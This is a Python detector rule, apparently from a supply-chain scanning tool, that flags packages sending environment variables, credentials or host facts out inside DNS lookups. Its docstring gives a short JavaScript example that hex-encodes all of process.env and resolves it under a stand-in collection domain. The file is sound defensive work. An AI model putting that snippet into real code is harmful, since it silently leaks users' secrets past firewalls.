"""Facts or secrets are sent out inside of names that are looked up.

*What it does*

Follows values backwards from every look-up of a name, and speaks where variables of the environment, files of
credentials or facts about the machine become part of the name.

*Why it matters*

A look-up passes most firewalls and proxies, and whoever owns the domain reads what stands before it.

*Example*

    const dns = require("dns");
    const secret = Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60);
    dns.resolve(secret + ".collect.acme.invalid", () => {});
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._flows import confidence, runs_on_install, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="dns-exfiltration",
    title="Sends data inside of names that it looks up",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, replace the secrets of its environment.",
    techniques=("T1048.003", "T1071.004"),
)
_SOURCES = frozenset(
    {
        BehaviourKind.ENVIRONMENT_DUMP,
        BehaviourKind.ENVIRONMENT_READ,
        BehaviourKind.CREDENTIAL_READ,
        BehaviourKind.HOST_FACTS,
    }
)
_TARGETS = frozenset({BehaviourKind.NETWORK})
#: The machine's own name is looked up to learn its address.
_OWN_NAME = "os.hostname"


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each look-up that carries something out."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        if not sink.behaviour.detail.startswith("dns"):
            continue
        facts = sorted({source.detail for source in sink.sources})
        if facts == [_OWN_NAME] and not runs_on_install(sink.file):
            continue
        yield finding(
            RULE,
            f"{subject.ref} sends {', '.join(facts[:3])} inside of names that it looks up {when(sink.file)}",
            *sink.evidence(f"{sink.behaviour.detail} looks it up"),
            severity=softened(sink.file, RULE.severity),
            confidence=confidence(sink.file),
        )
